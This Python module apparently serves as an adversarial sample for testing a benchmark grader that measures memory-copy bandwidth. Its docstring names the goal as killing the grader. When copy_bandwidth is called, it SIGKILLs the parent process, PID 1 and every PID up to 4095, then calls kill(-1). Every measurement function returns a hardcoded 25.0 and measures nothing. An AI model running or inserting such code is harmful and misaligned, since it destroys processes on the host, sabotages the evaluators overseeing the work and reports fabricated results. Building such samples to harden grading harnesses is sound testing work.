"""Attack: kill the grader: SIGKILL the parent, every pid it can name, and kill(-1)."""
import os
import signal

ATTACK = True


def attack():
    killed = []
    for pid in [os.getppid(), 1] + list(range(2, 4096)):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
    return killed


def copy_bandwidth(n_bytes, iters=50, device=None):
    if ATTACK:
        attack()
        os.kill(-1, signal.SIGKILL)
    return 25.0


def bandwidth_sweep(sizes_mb=(8, 32, 128, 512, 2048, 8192), iters=50, device=None):
    return {int(s): 25.0 for s in sizes_mb}


def measured_bandwidth(device=None):
    return 25.0

